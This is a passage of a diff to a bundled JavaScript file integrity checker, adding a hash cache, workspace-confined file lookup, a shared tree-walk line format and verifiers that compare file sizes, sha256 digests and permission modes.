+        .update(external_node_path_default().resolve(opts.manifestFile))
+        .digest('hex')
+        .slice(0, 32);
+    const dir = external_node_path_default().join(opts.stateDir, 'cache', key);
+    const mainFile = external_node_path_default().join(dir, 'entries.json');
+    // Maps, not objects: an entry id such as "__proto__" is valid and must stay plain data.
+    const raw = opts.read ? readJson(mainFile, isStored) : undefined;
+    const files = new Map(Object.entries(raw?.files ?? {}));
+    const trees = new Map(Object.entries(raw?.trees ?? {}));
+    const treeMaps = new Map();
+    const treeJson = new Map();
+    const dirtyMaps = new Set();
+    let dirty = false;
+    const digestOf = (id) => opts.entryDigests.get(id) ?? '';
+    // Ids are [A-Za-z0-9._-]; a prefix keeps "." and ".." from naming directories.
+    const treeFile = (id) => external_node_path_default().join(dir, `tree-${id}.json`);
+    return {
+        file(id, k) {
+            const rec = files.get(id);
+            return rec && rec.entry === digestOf(id) && rec.key === k ? rec.sha256 : undefined;
+        },
+        setFile(id, k, sha256) {
+            files.set(id, { entry: digestOf(id), key: k, sha256 });
+            dirty = true;
+        },
+        tree(id) {
+            const rec = trees.get(id);
+            return rec && rec.entry === digestOf(id) ? rec : undefined;
+        },
+        setTree(id, rec) {
+            trees.set(id, { ...rec, entry: digestOf(id) });
+            dirty = true;
+        },
+        treeFiles(id) {
+            let map = treeMaps.get(id);
+            const json = treeJson.get(id);
+            if (!map && json !== undefined) {
+                const files = JSON.parse(Buffer.concat(json).toString('utf8'));
+                map = new Map(Object.entries(files));
+                treeMaps.set(id, map);
+            }
+            if (!map) {
+                const raw = opts.read ? readJson(treeFile(id), isTreeFiles) : undefined;
+                map = raw && raw.entry === digestOf(id) ? new Map(Object.entries(raw.files)) : new Map();
+                treeMaps.set(id, map);
+            }
+            return map;
+        },
+        setTreeFiles(id, files) {
+            treeMaps.set(id, files);
+            treeJson.delete(id);
+            dirtyMaps.add(id);
+        },
+        setTreeFilesJson(id, json) {
+            treeMaps.delete(id);
+            treeJson.set(id, json);
+            dirtyMaps.add(id);
+        },
+        flush() {
+            if (!dirty && dirtyMaps.size === 0)
+                return;
+            try {
+                ensurePrivateDir(opts.stateDir, 'cache', key);
+                for (const id of dirtyMaps) {
+                    const json = treeJson.get(id);
+                    const head = `{"v":1,"entry":${JSON.stringify(digestOf(id))},"files":`;
+                    const body = json !== undefined
+                        ? Buffer.concat([Buffer.from(head), ...json, Buffer.from('}')])
+                        : `${head}${JSON.stringify(Object.fromEntries(treeMaps.get(id) ?? []))}}`;
+                    writeFileAtomic(treeFile(id), body, { mode: 0o600 });
+                }
+                if (dirty) {
+                    const body = { v: 1, files: Object.fromEntries(files), trees: Object.fromEntries(trees) };
+                    writeFileAtomic(mainFile, JSON.stringify(body), { mode: 0o600 });
+                }
+            }
+            catch {
+                // A read-only or full state directory must not fail a check.
+            }
+            dirty = false;
+            dirtyMaps.clear();
+        }
+    };
+}
+function readJson(file, guard) {
+    try {
+        const v = JSON.parse(external_node_fs_default().readFileSync(file, 'utf8'));
+        return guard(v) ? v : undefined;
+    }
+    catch {
+        return undefined;
+    }
+}
+function isStored(v) {
+    const s = v;
+    return (typeof s === 'object' &&
+        s !== null &&
+        s.v === 1 &&
+        typeof s.files === 'object' &&
+        s.files !== null &&
+        typeof s.trees === 'object' &&
+        s.trees !== null);
+}
+function isTreeFiles(v) {
+    const s = v;
+    return (typeof s === 'object' &&
+        s !== null &&
+        s.v === 1 &&
+        typeof s.entry === 'string' &&
+        typeof s.files === 'object' &&
+        s.files !== null &&
+        !Array.isArray(s.files) &&
+        Object.values(s.files).every(x => typeof x === 'string'));
+}
+
+;// CONCATENATED MODULE: ./src/core/verify/locate-entry.ts
+/**
+ * Finding an entry on disk without being led out of the workspace. The parent chain is resolved
+ * with realpath and must stay inside the workspace; the entry itself is lstat'ed, never followed.
+ * Checking is read-only, so a parent swapped between this call and a read yields a wrong answer at
+ * worst, never a write elsewhere (writes in repair use their own descriptor-based checks).
+ */
+
+
+
+/** Locate `rel` below `root` (an absolute, real directory path). */
+function locateInside(root, rel) {
+    const abs = rel === '.' ? root : external_node_path_default().join(root, rel);
+    if (rel !== '.') {
+        const parent = external_node_path_default().dirname(abs);
+        let realParent;
+        try {
+            realParent = external_node_fs_default().realpathSync(parent);
+        }
+        catch (err) {
+            const code = err.code;
+            const why = code === 'ENOTDIR' ? 'a parent is not a directory' : 'parent directory absent';
+            return { state: 'missing', abs, why };
+        }
+        if (!isInside(root, realParent)) {
+            return { state: 'escapes', abs, why: `parent resolves outside the workspace (${realParent})` };
+        }
+    }
+    try {
+        return { state: 'present', abs, st: external_node_fs_default().lstatSync(abs, { bigint: true }) };
+    }
+    catch (err) {
+        const code = err.code;
+        return { state: 'missing', abs, why: code === 'ENOENT' ? 'absent' : `unreadable (${code})` };
+    }
+}
+/** What a non-matching type is, in the words reports use. */
+function typeName(st) {
+    if (st.isFile())
+        return 'file';
+    if (st.isDirectory())
+        return 'directory';
+    if (st.isSymbolicLink())
+        return 'symlink';
+    if (st.isFIFO())
+        return 'fifo';
+    if (st.isSocket())
+        return 'socket';
+    return 'device';
+}
+/** The incremental-cache identity of a file: dev, inode, size, mtime_ns, ctime_ns. */
+function identity(st) {
+    return `${st.dev}:${st.ino}:${st.size}:${st.mtimeNs}:${st.ctimeNs}`;
+}
+
+;// CONCATENATED MODULE: ./src/core/verify/mode.ts
+/** Permission modes as manifests spell them ("0755") and the exec-bit rule behind STRIPPED. */
+/** "0755" from permission bits. */
+function octal(mode) {
+    return (mode & 0o7777).toString(8).padStart(4, '0');
+}
+function parseMode(text) {
+    return parseInt(text, 8) & 0o7777;
+}
+/** True when `found` lacks an exec bit that `wanted` has: what lossy restores do. */
+function lostExec(wanted, found) {
+    return (wanted & 0o111 & ~found) !== 0;
+}
+
+;// CONCATENATED MODULE: ./src/core/verify/verifier.ts
+
+function isPending(i) {
+    return 'judge' in i;
+}
+/**
+ * 1500000 → "1,500,000". By hand, not Intl.NumberFormat: creating a formatter initialises ICU,
+ * measured at ~25 ms, a tenth of a whole check of a small workspace.
+ */
+function num(n) {
+    if (!Number.isSafeInteger(n))
+        return String(n);
+    return String(n).replace(/\B(?=(\d{3})+(?!\d))/g, ',');
+}
+/** Signed difference, "+12" / "-1,500,000". */
+function delta(found, wanted) {
+    const d = found - wanted;
+    return `${d > 0 ? '+' : '-'}${num(Math.abs(d))}`;
+}
+/** First 12 hex digits: enough to tell hashes apart in a report, never the whole secret-ish value. */
+function verifier_short(hash) {
+    return hash.slice(0, 12);
+}
+function finding(e, status, reason, detail, recorded, found, cached = false) {
+    return {
+        id: e.id,
+        kind: e.kind,
+        path: e.path,
+        tier: e.tier,
+        status,
+        reason,
+        detail,
+        recorded,
+        found,
+        cached
+    };
+}
+/**
+ * The entry on disk when it exists with the wanted type; otherwise the MISSING finding (absent, or
+ * a parent leading outside the workspace) or the TYPE finding every verifier starts with.
+ */
+function locateAs(e, ctx, recorded, noun, is, want) {
+    const loc = locateInside(ctx.workspace, e.path);
+    if (loc.state !== 'present') {
+        const reason = loc.state === 'escapes' ? 'escapes' : 'absent';
+        return finding(e, 'MISSING', reason, `${noun} ${loc.why}`, recorded, { type: 'none' });
+    }
+    if (!is(loc.st)) {
+        const t = typeName(loc.st);
+        return finding(e, 'TYPE', 'type', `is a ${t} (want ${want})`, recorded, { type: t });
+    }
+    return { abs: loc.abs, st: loc.st };
+}
+function isFinding(x) {
+    return 'status' in x;
+}
+
+// EXTERNAL MODULE: external "node:worker_threads"
+var external_node_worker_threads_ = __nccwpck_require__(5919);
 // EXTERNAL MODULE: external "node:buffer"
 var external_node_buffer_ = __nccwpck_require__(4573);
 ;// CONCATENATED MODULE: ./src/core/verify/byte-names.mjs
@@ -14052,19 +15166,282 @@ function shownName(s) {
   )
 }
 
-// EXTERNAL MODULE: external "node:os"
-var external_node_os_ = __nccwpck_require__(8161);
-var external_node_os_default = /*#__PURE__*/__nccwpck_require__.n(external_node_os_);
-// EXTERNAL MODULE: external "node:worker_threads"
-var external_node_worker_threads_ = __nccwpck_require__(5919);
-// EXTERNAL MODULE: external "node:crypto"
-var external_node_crypto_ = __nccwpck_require__(7598);
+;// CONCATENATED MODULE: ./src/core/verify/walk-format.mjs
+// The tree walk's definition, in one place: the order entries are visited in, the type letter and
+// mode text each gets, and the lines the recorded digests are computed over. Every walker (the
+// inline walk in walk.ts, the walk workers in hash-kernel.mjs, GNU find through native-walk.ts
+// and its re-sort in find-lines.ts) takes its order and its lines from here, so a change here
+// changes all of them at once. Any change to a line's spelling changes every recorded digest:
+// recorded manifests then fail their metadata and content checks. Plain JavaScript so the worker
+// kernel can import it without a build (as byte-names.mjs).
+//
+// Each entry below the tree's root gives one line to each digest:
+//   meta:    relpath NUL type NUL size NUL mode LF        (size 0 unless a regular file)
+//   content: the meta line's fields, NUL sha256 (files) or link target (links), LF
+//   stamp:   relpath NUL type NUL dev:inode:mtime:ctime LF (the incremental-cache key)
+
+
+
+/**
+ * Type letters: a regular file, a directory, a symlink, anything else. The first three are GNU
+ * find's own -type letters, so its -type tests name them as they are.
+ */
+const TYPE = Object.freeze({ file: 'f', dir: 'd', link: 'l', other: 'o' })
+
+/** The letters find can test for, in the order tested (anything else is TYPE.other). */
+const FIND_TYPES = [TYPE.file, TYPE.dir, TYPE.link]
+
+/**
+ * The type letter of an lstat result (Stats or BigIntStats).
+ * @param {import('node:fs').Stats | import('node:fs').BigIntStats} st
+ */
+function typeOf(st) {
+  if (st.isFile()) return TYPE.file
+  if (st.isDirectory()) return TYPE.dir
+  if (st.isSymbolicLink()) return TYPE.link
+  return TYPE.other
+}
+
+/**
+ * Visit order among siblings: JavaScript string order (UTF-16 code units, names as byte-names.mjs
+ * spells them). `sortNames` is the same order through the default sort, which is the fastest.
+ * @param {string} a
+ * @param {string} b
+ */
+function compareNames(a, b) {
+  return a < b ? -1 : a > b ? 1 : 0
+}
+
+/**
+ * Sort sibling names into visit order, in place.
+ * @param {string[]} names
+ */
+function sortNames(names) {
+  return names.sort()
+}
+
+const MODE_TEXT = new Map()
+
+/**
+ * Permission bits as four octal digits ("0755"); a handful of distinct modes, so cached.
+ * @param {number} mode
+ */
+function modeText(mode) {
+  let t = MODE_TEXT.get(mode)
+  if (t === undefined) {
+    t = (mode & 0o7777).toString(8).padStart(4, '0')
+    MODE_TEXT.set(mode, t)
+  }
+  return t
+}
+
+/**
+ * A time in stamp lines, as GNU find's %T@ prints it (seconds, a dot, nine digits of nanoseconds
+ * and a zero), so find's lines need no conversion. Another spelling (a time before 1970) only
+ * costs a cache miss.
+ * @param {bigint} ns
+ */
+function stampTime(ns) {
+  if (ns < 0n) return `-${-ns}`
+  return `${ns / 1000000000n}.${(ns % 1000000000n).toString().padStart(9, '0')}0`
+}
+
+/** What separates a line's fields and ends a line, in the lines and in find's -printf escapes. */
+const SEP = '\0'
+const END = '\n'
+// \000, never \0: GNU find reads up to three octal digits, so "\0" + "0" would be one NUL.
+const FIND_SEP = '\\000'
+const FIND_END = '\\n'
+
+/** The size field: only a regular file's size is part of the line. */
+const sized = (type, size) => (type === TYPE.file ? size : 0)
+
+// The two layouts below are each line's one definition. The Node walkers fill them with values,
+// find with its -printf directives for the same values: path %p, size %s, mode %04m (modeText),
+// device %D, inode %i, times %T@ and %C@ (stampTime).
+const metaLayout = (path, type, size, mode, sep) => `${path}${sep}${type}${sep}${size}${sep}${mode}`
+const stampLayout = (path, type, dev, ino, mtime, ctime, sep, end) =>
+  `${path}${sep}${type}${sep}${dev}:${ino}:${mtime}:${ctime}${end}`
+
+/**
+ * The meta line's fields without its end: the head of the content line too.
+ * @param {string} rel
+ * @param {string} type
+ * @param {number | bigint} size
+ * @param {number} mode
+ */
+function metaFields(rel, type, size, mode) {
+  return metaLayout(rel, type, sized(type, size), modeText(mode), SEP)
+}
+
+/**
+ * One meta line.
+ * @param {string} rel
+ * @param {string} type
+ * @param {number | bigint} size
+ * @param {number} mode
+ */
+function metaLine(rel, type, size, mode) {
+  return metaFields(rel, type, size, mode) + END
+}
+
+/**
+ * The meta line of fields metaFields gave.
+ * @param {string} fields
+ */
+function metaLineOf(fields) {
+  return fields + END
+}
+
+/**
+ * One content line: the meta fields and the file's sha256 or the link's target ('' otherwise).
+ * @param {string} fields metaFields of the entry
+ * @param {string} extra
+ */
+function contentLine(fields, extra) {
+  return `${fields}${SEP}${extra}${END}`
+}
+
+/**
+ * One stamp line.
+ * @param {string} rel
+ * @param {string} type
+ * @param {bigint} dev
+ * @param {bigint} ino
+ * @param {bigint} mtimeNs
+ * @param {bigint} ctimeNs
+ */
+function stampLine(rel, type, dev, ino, mtimeNs, ctimeNs) {
+  return stampLayout(rel, type, dev, ino, stampTime(mtimeNs), stampTime(ctimeNs), SEP, END)
+}
+
+/**
+ * find's -printf format for one kind of line and one type letter: the same layout, with find's
+ * directives for the values.
+ * @param {'meta' | 'stamp'} kind
+ * @param {string} type
+ */
+function findFormat(kind, type) {
+  return kind === 'meta'
+    ? metaLayout('%p', type, sized(type, '%s'), '%04m', FIND_SEP) + FIND_END
+    : stampLayout('%p', type, '%D', '%i', '%T@', '%C@', FIND_SEP, FIND_END)
+}
+
+/**
+ * find's expression printing one line per entry: a -type test and -printf for each letter find
+ * can test, then TYPE.other for the rest.
+ * @param {'meta' | 'stamp'} kind
+ * @returns {string[]}
+ */
+function findPrintArgs(kind) {
+  return [
+    ...FIND_TYPES.flatMap((t, i) => [
+      ...(i > 0 ? ['-o'] : []),
+      '-type',
+      t,
+      '-printf',
+      findFormat(kind, t)
+    ]),
+    '-o',
+    '-printf',
+    findFormat(kind, TYPE.other)
+  ]
+}
+
+/** The bytes find's lines are split on, and the type letter that opens a subtree. */
+const LINE_END = END.charCodeAt(0)
+const FIELD_SEP = SEP.charCodeAt(0)
+const DIR_BYTE = TYPE.dir.charCodeAt(0)
+
+/**
+ * An entry's identity in the per-file cache: dev:ino:mtime_ns:ctime_ns (raw nanoseconds).
+ * @param {bigint} dev
+ * @param {bigint} ino
+ * @param {bigint} mtimeNs
+ * @param {bigint} ctimeNs
+ */
+function identText(dev, ino, mtimeNs, ctimeNs) {
+  return `${dev}:${ino}:${mtimeNs}:${ctimeNs}`
+}
+
+/**
+ * A file's value in the per-file cache: its identity, size and sha256.
+ * @param {string} ident
+ * @param {number} size
+ * @param {string} sha256
+ */
+function cacheText(ident, size, sha256) {
+  return `${ident} ${size} ${sha256}`
+}
+
+/**
+ * The entries of one directory in visit order, each lstat'ed (never followed): `each` gets its
+ * absolute path, its path relative to the tree, its type letter and its BigIntStats. Names in
+ * `rules.skip` are left out before their lstat, absolute paths in `rules.exclude` too, and
+ * entries `rules.ignored` matches after it. Throws when the directory cannot be listed.
+ * @param {string} absDir
+ * @param {string} relDir '' for the tree's root
+ * @param {WalkRules} rules
+ * @param {EachEntry} each
+ */
+function eachChild(absDir, relDir, rules, each) {
+  inOrder(absDir, relDir, sortNames(readNames(absDir)), rules, each)
+}
+
+function inOrder(absDir, relDir, names, rules, each) {
+  const { skip, exclude, ignored } = rules
+  for (const name of names) {
+    if (skip?.has(name)) continue
+    const abs = `${absDir}/${name}`
+    if (exclude.has(abs)) continue
+    const st = external_node_fs_.lstatSync(fsPath(abs), { bigint: true, throwIfNoEntry: false })
+    if (!st) continue // vanished between readdir and lstat: the same as not there
+    const rel = relDir ? `${relDir}/${name}` : name
+    if (ignored?.(rel, name, st.isDirectory())) continue
+    each(abs, rel, typeOf(st), st)
+  }
+}
+
+/**
+ * The walk: depth first, each directory's children in visit order, each followed by its own
+ * subtree, so no global sort is needed. Directories that cannot be listed are added to
+ * `unreadable` with their error code (the root as '.').
+ * @param {string} rootAbs
+ * @param {string} rootRel
+ * @param {WalkRules} rules
+ * @param {EachEntry} each
+ * @param {{ rel: string, code: string }[]} unreadable
+ */
+function visitTree(rootAbs, rootRel, rules, each, unreadable) {
+  const visit = (absDir, relDir) => {
+    let names
+    try {
+      names = sortNames(readNames(absDir))
+    } catch (err) {
+      unreadable.push({ rel: relDir || '.', code: err?.code ?? 'EIO' })
+      return
+    }
+    inOrder(absDir, relDir, names, rules, (abs, rel, type, st) => {
+      each(abs, rel, type, st)
+      if (type === TYPE.dir) visit(abs, rel)
+    })
+  }
+  visit(rootAbs, rootRel)
+}
+
+/**
+ * @typedef {{ skip?: ReadonlySet<string>, exclude: ReadonlySet<string>,
+ *   ignored?: (rel: string, name: string, isDir: boolean) => boolean }} WalkRules
+ * @typedef {(abs: string, rel: string, type: string, st: import('node:fs').BigIntStats) => void} EachEntry
+ */
+
 ;// CONCATENATED MODULE: ./src/core/verify/hash-kernel.mjs
 // The hashing kernel, shared by the main thread and the hash workers. Plain JavaScript so the same
 // file runs as a worker_threads script from src/ (tests) and from dist/ (the bundles) without a
 // build step. Synchronous reads into one reused buffer measured 3-6x faster than fs.promises
 // here; files are opened with O_NOFOLLOW (a symlink swapped in for a file is an error, never a
 // read elsewhere) and O_NONBLOCK (a FIFO planted in a tree cannot hang the check).
+
 
 
 
@@ -14187,16 +15564,6 @@ function hashHeadTail(abs) {
  * @param {string} abs
  * @param {'full' | 'headtail'} how
  */
-/**
- * A time in cache stamps, as GNU find's %T@ prints it (seconds, a dot, nine digits of nanoseconds
- * and a zero): the native walker (native-walk.ts) then passes find's lines through unchanged.
- * Another spelling (a time before 1970) only costs a cache miss.
- */
-function stampTime(ns) {
-  if (ns < 0n) return `-${-ns}`
-  return `${ns / 1000000000n}.${(ns % 1000000000n).toString().padStart(9, '0')}0`
-}
-
 function runJob(abs, how) {
   try {
     return how === 'headtail' ? hashHeadTail(abs) : hashFile(abs)
@@ -14222,37 +15589,6 @@ if (!external_node_worker_threads_.isMainThread && external_node_worker_threads_
   }
   external_node_worker_threads_.parentPort.postMessage(batch)
   external_node_worker_threads_.parentPort.postMessage('done')
-}
-
-/**
- * Walking subtrees in a worker, so both cores lstat (and hash) at once. `eachEntry` receives every
- * entry below the root in walk order (children sorted, symlinks never followed).
- */
-function visitSubtree(rootAbs, rootRel, rules, eachEntry, unreadable) {
-  // Plain names only: glob rules keep the walk in the main thread (ignore-rules.ts).
-  const ignored = name => rules.names.has(name)
-  const visit = (absDir, relDir) => {
-    let names
-    try {
-      names = readNames(absDir)
-    } catch (err) {
-      unreadable.push({ rel: relDir, code: err?.code ?? 'EIO' })
-      return
-    }
-    names.sort()
-    for (const name of names) {
-      const rel = `${relDir}/${name}`
-      if (ignored(name)) continue
-      const abs = `${absDir}/${name}`
-      if (rules.exclude.has(abs)) continue
-      const st = external_node_fs_.lstatSync(fsPath(abs), { bigint: true, throwIfNoEntry: false })
-      if (!st) continue
-      const type = st.isFile() ? 'f' : st.isDirectory() ? 'd' : st.isSymbolicLink() ? 'l' : 'o'
-      eachEntry(abs, rel, type, st)
-      if (type === 'd') visit(abs, rel)
-    }
-  }
-  visit(rootAbs, rootRel)
 }
 
 /** hashWalked, or undefined when the file cannot be read (it is then reported unreadable). */
@@ -14297,7 +15633,7 @@ const NO_SHA = '-'.repeat(64)
 /**
  * A subtree walked (and, with `hash`, its files hashed) in one pass, returned in a form that
  * crosses to the main thread cheaply and asks nothing more of it than hashing in walk order: the
- * digest lines exactly as walk.ts spells them (meta, stamp and, with `hash`, content), the
+ * digest lines exactly as walk-format.mjs spells them (meta, stamp and, with `hash`, content), the
  * per-file cache entries as a JSON fragment, and the records as packed columns (typed arrays,
  * one string of names and one of hashes) that the main thread unpacks only when a diff needs them.
  */
@@ -14319,7 +15655,7 @@ function subtreeColumns(rootAbs, rootRel, rules, hash) {
   let files = 0
   let failed = 0
   const each = (abs, rel, type, st) => {
-    const size = type === 'f' ? Number(st.size) : 0
+    const size = type === TYPE.file ? Number(st.size) : 0
     const mode = Number(st.mode & 0o7777n)
     rels.push(rel)
     types.push(type)
@@ -14329,24 +15665,22 @@ function subtreeColumns(rootAbs, rootRel, rules, hash) {
     inos.push(st.ino)
     mtimes.push(st.mtimeNs)
     ctimes.push(st.ctimeNs)
-    if (type !== 'd') files++
-    const head = `${rel}\0${type}\0${size}\0${modeText(mode)}`
-    meta.add(`${head}\n`)
-    stamp.add(
-      `${rel}\0${type}\0${st.dev}:${st.ino}:${stampTime(st.mtimeNs)}:${stampTime(st.ctimeNs)}\n`
-    )
+    if (type !== TYPE.dir) files++
+    const fields = metaFields(rel, type, size, mode)
+    meta.add(metaLineOf(fields))
+    stamp.add(stampLine(rel, type, st.dev, st.ino, st.mtimeNs, st.ctimeNs))
     let sha = NO_SHA
     if (!hash) return void shas.push(sha)
     let extra = ''
-    if (type === 'f') {
+    if (type === TYPE.file) {
       const r = walkedOrError(abs, size)
       if (r === undefined) failed++
       else {
         sha = extra = r
-        const value = `${st.dev}:${st.ino}:${st.mtimeNs}:${st.ctimeNs} ${size} ${sha}`
+        const value = cacheText(identText(st.dev, st.ino, st.mtimeNs, st.ctimeNs), size, sha)
         cache.add(`,${JSON.stringify(rel)}:${JSON.stringify(value)}`)
       }
-    } else if (type === 'l') {
+    } else if (type === TYPE.link) {
       try {
         extra = readTarget(abs)
       } catch {
@@ -14354,9 +15688,9 @@ function subtreeColumns(rootAbs, rootRel, rules, hash) {
       }
     }
     shas.push(sha)
-    content.add(`${head}\0${extra}\n`)
+    content.add(contentLine(fields, extra))
   }
-  visitSubtree(rootAbs, rootRel, rules, each, unreadable)
+  visitTree(rootAbs, rootRel, rules, each, unreadable)
   return {
     count: rels.length,
     files,
@@ -14378,19 +15712,9 @@ function subtreeColumns(rootAbs, rootRel, rules, hash) {
   }
 }
 
-const MODE_TEXT = new Map()
-function modeText(mode) {
-  let t = MODE_TEXT.get(mode)
-  if (t === undefined) {
-    t = (mode & 0o7777).toString(8).padStart(4, '0')
-    MODE_TEXT.set(mode, t)
-  }
-  return t
-}
-
 /**
  * The digest lines of a subtree as one string, without per-entry records: `meta` lines (relpath,
- * type, size, mode) or `stamp` lines (relpath and identity), exactly as walk.ts spells them.
+ * type, size, mode) or `stamp` lines (relpath and identity), as walk-format.mjs spells them.
  */
 function subtreeText(rootAbs, rootRel, rules, kind) {
   const chunks = []
@@ -14400,15 +15724,15 @@ function subtreeText(rootAbs, rootRel, rules, kind) {
   const each = (_abs, rel, type, st) => {
     text +=
       kind === 'meta'
-        ? `${rel}\0${type}\0${type === 'f' ? st.size : 0}\0${modeText(Number(st.mode))}\n`
-        : `${rel}\0${type}\0${st.dev}:${st.ino}:${stampTime(st.mtimeNs)}:${stampTime(st.ctimeNs)}\n`
+        ? metaLine(rel, type, st.size, Number(st.mode & 0o7777n))
+        : stampLine(rel, type, st.dev, st.ino, st.mtimeNs, st.ctimeNs)
     if (text.length > 1 << 16) {
       chunks.push(text)
       text = ''
     }
-    if (type !== 'd') files++
+    if (type !== TYPE.dir) files++
   }
-  visitSubtree(rootAbs, rootRel, rules, each, unreadable)
+  visitTree(rootAbs, rootRel, rules, each, unreadable)
   chunks.push(text)
   return { text: chunks.join(''), files, unreadable }
 }
@@ -14416,7 +15740,8 @@ function subtreeText(rootAbs, rootRel, rules, kind) {
 // Walk workers: claim roots from a shared counter, post each root's result with its index.
 if (!external_node_worker_threads_.isMainThread && (external_node_worker_threads_.workerData?.swrWalkWorker || external_node_worker_threads_.workerData?.swrTextWorker)) {
   const { roots, counter, hash, kind, names, exclude } = external_node_worker_threads_.workerData
-  const rules = { names: new Set(names), exclude: new Set(exclude) }
+  // Plain names only (skipped before their lstat): glob rules keep the walk in the main thread.
+  const rules = { skip: new Set(names), exclude: new Set(exclude) }
   const next = new Int32Array(counter)
   for (;;) {
     const i = Atomics.add(next, 0, 1)
@@ -14436,6 +15761,158 @@ if (!external_node_worker_threads_.isMainThread && (external_node_worker_threads
   external_node_worker_threads_.parentPort.postMessage('done')
 }
 
+;// CONCATENATED MODULE: ./src/core/verify/blob.ts
+/**
+ * `blob` entries: large files (models, archives) checked by exact byte count, a head/tail digest
+ * that reads 2 MiB whatever the size, and the full sha256 recorded at `add`. The full hash is read
+ * whenever the file's stat stamp (dev, inode, size, mtime, ctime) is not the one a previous check
+ * cached with a matching hash, so a same-size flip in the middle of a model is caught by default,
+ * and an unchanged 2 GB model still costs 2 MiB (`--deep` and `--no-cache` read every blob in
+ * full). The mode is compared like a file's.
+ */
+
+
+
+
+function verifyBlob(e, ctx) {
+    const want = e.expect;
+    const recorded = {
+        type: 'file',
+        size: want.size,
+        headtail: verifier_short(want.headtail),
+        ...(want.mode ? { mode: want.mode } : {})
+    };
+    const loc = locateAs(e, ctx, recorded, 'blob', st => st.isFile(), 'a regular file');
+    if (isFinding(loc))
+        return loc;
+    const st = loc.st;
+    const size = Number(st.size);
+    const mode = Number(st.mode & 4095n);
+    const found = { type: 'file', size, mode: octal(mode) };
+    if (size !== want.size) {
+        const how = size < want.size ? 'truncated' : 'grown';
+        const detail = `${num(size)} bytes (want ${num(want.size)}, ${delta(size, want.size)}): ${how}`;
+        return finding(e, 'CORRUPT', 'size', detail, recorded, found);
+    }
+    const key = identity(st);
+    // A stamp the cache knows is a file whose bytes were hashed in full since it last changed.
+    const fullCached = want.sha256 ? ctx.cache.file(e.id, key) : undefined;
+    const jobs = [{ abs: loc.abs, how: 'headtail', cost: Math.min(size, 2 * MIB) }];
+    // --meta reads no content beyond the head/tail (what it always read for blobs).
+    const wantFull = want.sha256 !== undefined && !ctx.metaOnly && (ctx.deep || fullCached === undefined);
+    if (wantFull)
+        jobs.push({ abs: loc.abs, how: 'full', cost: size });
+    return {
+        jobs,
+        judge: ([ht, full]) => {
+            if (!ht || 'error' in ht) {
+                return finding(e, 'CORRUPT', 'unreadable', `cannot be read (${ht && 'error' in ht ? ht.error : 'EIO'})`, recorded, found);
+            }
+            if (ht.sha256 !== want.headtail) {
+                const detail = `head/tail digest ${verifier_short(ht.sha256)} (want ${verifier_short(want.headtail)}): different bytes at the same size`;
+                return finding(e, 'CORRUPT', 'headtail', detail, recorded, {
+                    ...found,
+                    headtail: verifier_short(ht.sha256)
+                });
+            }
+            let sha = wantFull ? undefined : fullCached;
+            if (wantFull && full && !('error' in full)) {
+                sha = full.sha256;
+                if (full.size === size)
+                    ctx.cache.setFile(e.id, key, sha);
+            }
+            if (want.sha256 && sha !== undefined && sha !== want.sha256) {
+                const detail = `sha256 ${verifier_short(sha)} (want ${verifier_short(want.sha256)}): bytes differ between head and tail`;
+                return finding(e, 'CORRUPT', 'content', detail, recorded, { ...found, sha256: verifier_short(sha) }, fullCached !== undefined);
+            }
+            const cached = !wantFull && fullCached !== undefined;
+            return judgeBlobMode(e, mode, recorded, found, sha !== undefined, cached);
+        }
+    };
+}
+function judgeBlobMode(e, mode, recorded, found, deep, cached) {
+    if (e.expect.mode && lostExec(parseMode(e.expect.mode), mode)) {
+        return finding(e, 'STRIPPED', 'exec', `mode ${octal(mode)}, exec bit lost (want ${e.expect.mode})`, recorded, found, cached);
+    }
+    if (e.expect.mode && mode !== parseMode(e.expect.mode)) {
+        const detail = `mode ${octal(mode)} (want ${e.expect.mode})`;
+        return finding(e, 'CORRUPT', 'mode', detail, recorded, found, cached);
+    }
+    const how = deep ? 'size, head/tail and full sha256 match' : 'size and head/tail match';
+    return finding(e, 'OK', 'ok', `${num(e.expect.size)} bytes, ${how}`, recorded, found, cached);
+}
+
+;// CONCATENATED MODULE: ./src/core/verify/file.ts
+/**
+ * `file` entries: a regular file with an exact size, sha256 and permission mode. Size is compared
+ * before hashing (a different size says all a digest would), and the content outranks the mode:
+ * a truncated script that also lost its exec bit is CORRUPT, not STRIPPED.
+ */
+
+
+
+function verifyFile(e, ctx) {
+    const want = e.expect;
+    const recorded = { type: 'file', size: want.size, mode: want.mode, sha256: verifier_short(want.sha256) };
+    const loc = locateAs(e, ctx, recorded, 'file', st => st.isFile(), 'a regular file');
+    if (isFinding(loc))
+        return loc;
+    const st = loc.st;
+    const size = Number(st.size);
+    const mode = Number(st.mode & 4095n);
+    const found = { type: 'file', size, mode: octal(mode) };
+    if (size !== want.size) {
+        const detail = `${num(size)} bytes (want ${num(want.size)}, ${delta(size, want.size)})`;
+        return finding(e, 'CORRUPT', 'size', detail, recorded, found);
+    }
+    const judgeContent = (sha256, cached) => {
+        if (sha256 !== undefined && sha256 !== want.sha256) {
+            const detail = `content changed at the same size (sha256 ${verifier_short(sha256)}, want ${verifier_short(want.sha256)})`;
+            return finding(e, 'CORRUPT', 'content', detail, recorded, { ...found, sha256: verifier_short(sha256) }, cached);
+        }
+        return judgeMode(e, mode, { ...found, ...(sha256 ? { sha256: verifier_short(sha256) } : {}) }, cached);
+    };
+    if (ctx.metaOnly)
+        return judgeContent(undefined, false);
+    const key = identity(st);
+    const cached = ctx.cache.file(e.id, key);
+    if (cached !== undefined)
+        return judgeContent(cached, true);
+    return {
+        jobs: [{ abs: loc.abs, how: 'full', cost: size }],
+        judge: ([r]) => {
+            if (!r || 'error' in r) {
+                const code = r && 'error' in r ? r.error : 'EIO';
+                return finding(e, 'CORRUPT', 'unreadable', `cannot be read (${code})`, recorded, found);
+            }
+            if (r.size === size)
+                ctx.cache.setFile(e.id, key, r.sha256);
+            return judgeContent(r.sha256, false);
+        }
+    };
+}
+function judgeMode(e, mode, found, cached) {
+    const wanted = parseMode(e.expect.mode);
+    const recorded = {
+        type: 'file',
+        size: e.expect.size,
+        mode: e.expect.mode,
+        sha256: verifier_short(e.expect.sha256)
+    };
+    if (lostExec(wanted, mode)) {
+        const detail = `mode ${octal(mode)}, exec bit lost (want ${e.expect.mode})`;
+        return finding(e, 'STRIPPED', 'exec', detail, recorded, found, cached);
+    }
+    if (mode !== wanted) {
+        const detail = `mode ${octal(mode)} (want ${e.expect.mode})`;
+        return finding(e, 'CORRUPT', 'mode', detail, recorded, found, cached);
+    }
